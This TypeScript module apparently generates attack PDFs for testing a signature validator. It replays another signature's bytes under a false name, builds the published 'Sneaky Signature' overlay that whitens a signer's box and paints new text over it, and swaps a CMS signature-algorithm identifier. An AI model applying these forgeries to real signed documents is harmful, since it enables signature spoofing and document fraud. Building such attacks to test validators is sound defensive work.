// SSA: signature spoofing, and a signature that claims another algorithm than it uses.
import type { Role, SigningIdentity } from "../../../src/signing/identity.ts";
import { formWithFields, nextNumber, pageDrawing } from "./objects.ts";
import { appearance, HELVETICA, literal, paintText, pdfDate, rect, relative, signedLines } from "./painting.ts";
import type { Box, PortfolioFacts } from "./portfolio.ts";
import { BYTE_RANGE_SLOT, fillByteRange, signaturesIn, type SignatureBytes } from "./signature-bytes.ts";
import { appendUpdate } from "./update-writer.ts";

// --- SSA: signature spoofing ----------------------------------------------------------------

/**
 * A new signature field for `role` whose signature dictionary replays another signature's
 * /ByteRange and /Contents, with a /Name and appearance claiming `name`.
 */
export async function replayed(pdf: Buffer, facts: PortfolioFacts, from: SignatureBytes, role: Role, name: string, title: string): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, boxes } = facts.declaration;
  const [sig, widget, ap, font] = [n, n + 1, n + 2, n + 3];
  return appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [widget] })),
    { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [${from.byteRange.join(" ")}] /Contents <${from.hex}> /M ${pdfDate(new Date())} /Name ${literal(name)} /Reason (${title}'s signature on the portfolio) >>` },
    { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (${role}) /V ${sig} 0 R /F 132 /P ${page} 0 R /Rect ${rect(boxes[role])} /AP << /N ${ap} 0 R >> >>` },
    { num: ap, body: appearance(boxes[role], paintText(relative(boxes[role]), signedLines(name, title)), font) },
    { num: font, body: HELVETICA },
    await formWithFields(pdf, [widget]),
  ]).pdf;
}

/**
 * The Sneaky Signature attack (Mainka et al., IEEE S&P 2021): a real signature, made with
 * the signer's own key, in a new field of another name whose widget lies over a role's box
 * (or any box on any page) and whose appearance paints it white and writes `lines` in it.
 */
export async function sneakySignature(pdf: Buffer, facts: PortfolioFacts, identity: SigningIdentity, over: Role | { page: number; box: Box }, lines: string[]): Promise<Buffer> {
  const n = nextNumber(pdf);
  const { page, box } = typeof over === "string" ? { page: facts.declaration.page, box: facts.declaration.boxes[over] } : over;
  const [sig, widget, ap, font] = [n, n + 1, n + 2, n + 3];
  const [w, h] = [box[2] - box[0], box[3] - box[1]];
  const update = appendUpdate(pdf, [
    ...(await pageDrawing(pdf, page, 0, undefined, { annots: [widget] })),
    { num: sig, body: `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached ${BYTE_RANGE_SLOT} /Contents <${"0".repeat(32768)}> /M ${pdfDate(new Date())} >>` },
    { num: widget, body: `<< /Type /Annot /Subtype /Widget /FT /Sig /T (sig9) /V ${sig} 0 R /F 132 /P ${page} 0 R /Rect ${rect(box)} /AP << /N ${ap} 0 R >> >>` },
    { num: ap, body: appearance(box, `1 1 1 rg 0 0 ${w.toFixed(2)} ${h.toFixed(2)} re f ${paintText(relative(box), lines, { color: "0.6 0 0" })}`, font) },
    { num: font, body: HELVETICA },
    await formWithFields(pdf, [widget]),
  ]).pdf;
  return fillByteRange(update, identity);
}

/**
 * The first signature's SignerInfo made to claim sha1WithRSAEncryption while the signature is
 * RSA with SHA-256. The SignerInfo comes after the certificates, so the last PKCS#1 algorithm
 * identifier in the CMS is its signatureAlgorithm; /Contents is outside the signed bytes, so
 * nothing else changes.
 */
export function signatureAlgorithmSwapped(pdf: Buffer): Buffer {
  const sig = signaturesIn(pdf)[0]!;
  const pkcs1 = "2a864886f70d0101";
  const at = sig.hex.toLowerCase().lastIndexOf(pkcs1);
  if (at < 0) throw new Error("no PKCS#1 algorithm identifier in the signature");
  const out = Buffer.from(pdf);
  out.write("05", sig.contentsAt + 1 + at + pkcs1.length, "latin1");
  return out;
}
